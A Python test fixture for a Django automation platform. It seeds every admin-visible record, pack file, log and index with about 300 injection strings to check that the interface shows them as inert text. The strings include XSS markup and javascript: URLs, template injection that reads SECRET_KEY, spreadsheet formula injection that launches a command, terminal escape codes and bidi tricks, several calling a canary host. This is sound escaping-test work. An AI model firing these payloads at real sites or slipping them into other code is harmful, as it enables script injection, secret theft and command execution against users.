"""Three hundred texts that would like to be more than texts, and an installation in which they stand everywhere."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path
from typing import Any

from django.contrib import admin
from django.contrib.auth.models import Group, User
from django.db import models
from django.utils import timezone

from apps.access import audit
from apps.access.models import ApiToken
from apps.executions import logs
from apps.executions.models import Execution, Status, Worker
from apps.executions.services import create_policy
from apps.packs import keys, services
from apps.packs.models import Action, Installation, Pack, PackIndex, PackTest, PackVersion, Trigger
from apps.rules.models import Enforcement, Event
from apps.rules.services import create_rule, pause_rules
from apps.sensors.models import SensorProcess, WebhookDelivery

CANARY = "canary.invalid"
DO = "window.pwned=1;alert(1)"

# What stands in `pwned` attributes and elements would show that markup was taken for markup.
_MARKUP = (
    f"<script>{DO}</script>",
    f"<img src=x onerror={DO} pwned>",
    f"<img src=https://{CANARY}/i.png pwned>",
    f"<svg onload={DO} pwned>",
    f"<svg><script pwned>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s pwned>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={DO}/>#x' pwned>",
    f"<math><mi xlink:href='javascript:{DO}' pwned>x</mi></math>",
    f"<iframe src='javascript:{DO}' pwned></iframe>",
    f"<iframe srcdoc='<script>parent.{DO}</script>' pwned></iframe>",
    f"<object data=https://{CANARY}/o pwned></object>",
    f"<embed src=https://{CANARY}/e pwned>",
    f"<base href=https://{CANARY}/ pwned>",
    f"<meta http-equiv=refresh content='0;url=https://{CANARY}/' pwned>",
    f"<link rel=stylesheet href=https://{CANARY}/x.css pwned>",
    f"<style pwned>@import url(https://{CANARY}/x.css);</style>",
    f"<p style='background:url(https://{CANARY}/b.png)' pwned>",
    f"<a href='javascript:{DO}' pwned>click</a>",
    f"<form action=https://{CANARY}/ pwned><button>send</button></form>",
    f"<button formaction=https://{CANARY}/ form=login-form pwned>send</button>",
    f"<input autofocus onfocus={DO} pwned>",
    f"<details open ontoggle={DO} pwned>",
    f"<video src=x onerror={DO} pwned></video>",
    f"<audio src=https://{CANARY}/a.mp3 autoplay pwned></audio>",
    f"<marquee onstart={DO} pwned>m</marquee>",
    f"<div x-data x-init='{DO}' pwned></div>",
    "<div x-data='{a: $el.ownerDocument.defaultView}' x-text=a pwned></div>",
    f"<div hx-get=https://{CANARY}/ hx-trigger=load pwned></div>",
    f"<div hx-on:load='{DO}' hx-get=/admin/ hx-trigger='load[{DO}]' pwned></div>",
    f"<noscript><p title='</noscript><img src=x onerror={DO} pwned>'></noscript>",
)
_WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "</pre>", "-->", "]]>", '" autofocus onfocus=alert(1) x="')
_OTHERS = (
    *(f"{scheme}{DO}" for scheme in ("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "\x01javascript:")),
    *(f"data:text/html,<script>{DO}</script>", f"vbscript:{DO}", f"//{CANARY}/", f"https://{CANARY}/", "\\\\canary"),
    *(
        "pw{{7*7}}ned",
        "pw${7*7}ned",
        "pw#{7*7}ned",
        "pw<%= 7*7 %>ned",
        "pw{% now 'Y' %}ned",
        "{{ settings.SECRET_KEY }}",
    ),
    *("{{constructor.constructor('alert(1)')()}}", "{% load l10n %}", "{{ settings.SECRET_KEY }}", "{% include 'x' %}"),
    *(f"[click](javascript:{DO})", f"![x](https://{CANARY}/m.png)", f"<javascript:{DO}>", f"`<img onerror={DO}>`"),
    *(f"\x1b]8;;javascript:{DO}\x1b\\click\x1b]8;;\x1b\\", f"\x1b]8;;https://{CANARY}/\x07click\x1b]8;;\x07"),
    *("\x1b]0;<script>alert(1)</script>\x07", "\x1b[31m<b pwned>\x1b[0m", "\x9b31m", "\x1bP<b pwned>\x1b\\", "\x1b[2J"),
    *(
        "\u202egpj.exe",
        "\u2066\u2067a\u2069",
        "\u200b\ufeff",
        "a\u0000b",
        "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    ),
    *('"}];alert(1);//', "</script><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    *(
        "=HYPERLINK('https://canary.invalid/')",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "＜script＞alert(1)＜/script＞"),
    *("__proto__", "constructor", "A" * 3000),
)
PAYLOADS = tuple(f"{out}{markup}" for out in _WAYS_OUT for markup in _MARKUP) + _OTHERS
assert len(PAYLOADS) >= 300

ALL = "\n".join(PAYLOADS)
ALONE = tuple(text for text in _OTHERS if ":" in text[:14] or text.startswith("//"))  # what would do harm as an address
NAMED = {
    text.replace("\0", ""): text for text in PAYLOADS[::40]
}  # as names they are laid out in columns, which is slow
JSON = {
    "one": ALL,
    "names": {text.replace("\0", ""): text for text in PAYLOADS[:150:3]},
    "list": list(PAYLOADS[150:]),
    **dict.fromkeys(("__proto__", "constructor", "toString"), "<b pwned>"),
}
WISHES = ["six; python_version > '<b pwned>'", "six; python_version > '\"><img src=x onerror=alert(1) pwned>'"]
_LEFT = ("ref", "sealed", "digest", "prefix", "path", "password", "username", "webhook_key", "entry_point", "status")
_LEFT_ENDS = ("_ref", "_id", "_point", "_type", "_secret", "_key", "_version")


def fill(row: models.Model, *, turn: int) -> None:
    """Every text of a row that somebody else may have written: all of the texts, or in turn one that is an address.

    Refs, states and the like are checked at every door; a row with another one would show nothing but that.
    """
    changed: dict[str, Any] = {}
    for field in row._meta.concrete_fields:
        name = field.name
        if name in _LEFT or name.endswith(_LEFT_ENDS) or name.startswith("sealed") or field.choices or field.unique:
            continue
        if isinstance(field, models.CharField | models.TextField):
            changed[name] = ALL if turn == 0 else ALONE[turn % len(ALONE)]
        elif isinstance(field, models.JSONField) and name in ("tags", "keywords"):
            changed[name] = list(PAYLOADS[turn :: max(1, len(PAYLOADS) // 9)])
    if changed:
        type(row)._base_manager.filter(pk=row.pk).update(**changed)


def build(core: Pack, boss: Any, folder: Path, make_pack: Any) -> None:
    """One of everything twice, each with all of the texts in it, and then each with one of them alone."""
    now = timezone.now()
    schema = {
        "type": "object",
        "properties": {
            text.replace("\0", ""): {"type": "string", "title": text, "description": text, "default": text}
            for text in PAYLOADS[::12]
        },
    }
    files = {
        "README.md": ALL,
        "CHANGELOG.md": ALL,
        "requirements.txt": ALL,
        "actions/act.yaml": {"ref": "demo.act", "entry_point": "act.sh", "parameters": {"a": {"type": "string"}}},
        "actions/act.sh": "true",
    }
    made = make_pack("demo", {name: text for name, text in files.items() if name != "requirements.txt"})
    Action.objects.filter(pack=made).update(
        parameters_schema=schema, examples=[{"description": ALL, "parameters": JSON}]
    )
    pack = services.save_adhoc_pack(ref="evil", actor=boss, label="x", description="x", conf_schema=schema)
    Pack.objects.filter(pk__in=(pack.pk, made.pk)).update(
        config=JSON, meta=JSON, conf_schema=schema, environment={"packages": WISHES}
    )
    for number in range(2):
        options = {"networks": [ALL], **NAMED}
        trigger = services.save_adhoc_trigger(pack=pack, name=f"came{number}", actor=boss, label="x", description="x")
        services.enable_webhook(trigger, actor=boss)
        Trigger.objects.filter(pk=trigger.pk).update(
            payload_schema=schema,
            parameters_schema=schema,
            examples=[JSON],
            webhook_config=options,
        )
        rule = create_rule(
            ref=f"evil.rule{number}", pack=pack, trigger_ref=trigger.ref, action_ref="demo.act", actor=boss, user=boss
        )
        comparison = {"path": ALL, "operator": ALL, "expected": JSON, "actual": ALL, "result": False, "error": ALL}
        type(rule).objects.filter(pk=rule.pk).update(
            criteria={"var": "payload.one", "==": ALL}, action_params=JSON, trigger_params=JSON
        )
        event = Event.objects.create(
            trigger=trigger, trigger_ref=trigger.ref, payload=JSON, config={"headers": JSON}, processed_at=now
        )
        run = Execution.objects.create(
            action=Action.objects.get(ref="demo.act"),
            action_ref="demo.act",
            pack_ref="demo",
            rule_ref=rule.ref,
            trigger_ref=trigger.ref,
            event_id=event.pk,
            parameters=JSON,
            env_vars={"A": ALL},
            result=JSON,
            status=Status.FAILED,
            exit_code=1,
            started_at=now,
            finished_at=now,
            duration_ms=1,
        )
        for stream in logs.STREAMS:
            path = logs.path_of(run.pk, stream)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("\x1b[1;31mred \x1b[44mon blue\x1b[0m\n" + ALL)
        Execution.objects.create(
            action=run.action, action_ref="demo.act", pack_ref="demo", parent=run, original=run, status=Status.FAILED
        )
        Enforcement.objects.create(
            rule=rule,
            rule_ref=rule.ref,
            event=event,
            trigger_ref=trigger.ref,
            action_ref="demo.act",
            verdict=Enforcement.Verdict.ERROR,
            results=[comparison],
            action_params=JSON,
            execution=run,
        )
        create_policy(ref=f"evil.policy{number}", pack=pack, scope="global", actor=boss, concurrency={"limit": 1})
        runtimes = [{"name": ALL, "versions": [ALL]}]
        Worker.objects.create(
            name=f"w{number}",
            host="x",
            pid=1,
            heartbeat_at=now,
            labels=NAMED,
            runtimes=runtimes,
        )
        WebhookDelivery.objects.create(trigger_ref=trigger.ref, status=401)
        audit.record("x", "rule.update", "x", before=JSON, after={"one": "<b pwned>", **NAMED})
        ApiToken.objects.create(user=boss, kind="personal", name="x", prefix="att_abcdef", digest=str(number) * 64)
        keys.write(value="v", actor=boss, local_ref=f"token{number}", name="x")
        result = {
            "details": {"faults": [{"file": ALL, "line": 1, "message": ALL}]},
            "provenance": {"source": ALL, "url": ALL},
        }
        for status in ("failed", "running"):
            Installation.objects.create(pack_ref="demo", status=status, options=NAMED, result=result, log=ALL)
        cases = [{"name": ALL, "status": "failed", "stdout": ALL, "stderr": ALL, "message": ALL, "duration_ms": 1}]
        suites = [{"name": ALL, "runnerType": ALL, "testCases": cases, "passed": 0, "total": 1}]
        PackTest.objects.create(
            pack_ref="demo", pack_version="1", trigger_reason="x", status="failed", result={"testSuites": suites}
        )
        PackVersion.objects.create(
            pack_ref="demo", version=f"0.{number}", digest="sha256:" + "0" * 64, path=f"/gone/{number}"
        )
    sensor = core.sensors.get(ref="core.timer_sensor")  # type: ignore[attr-defined]
    SensorProcess.objects.create(
        sensor=sensor, state="backoff", failures=3, last_error_at=now, next_start_at=now + timedelta(hours=1)
    )
    entry = {
        "ref": "slack",
        "version": "1.0.0",
        "install_sources": [{"type": "archive", "url": "slack.tar.gz", "checksum": "sha256:" + "a" * 64}],
        "contents": {"actions": [{"name": ALL, "description": ALL}]},
        "meta": JSON,
        "homepage": ALONE[0],
        "repository": ALONE[1],
    }
    text = dict.fromkeys(("label", "description", "author", "license", "email", "use_case"), ALL)
    index = json.dumps({"packs": [entry | text | {"keywords": [ALL]}]})
    (folder / "index.json").write_text(index.replace("\\u0000", ""))
    PackIndex.objects.create(url=str(folder / "index.json"))
    pause_rules(reason="x", actor=boss)
    for model in admin.site._registry:
        if model not in (User, Group, PackIndex):
            for turn, row in enumerate(model._base_manager.order_by("pk")):
                fill(row, turn=turn % 2 and turn)
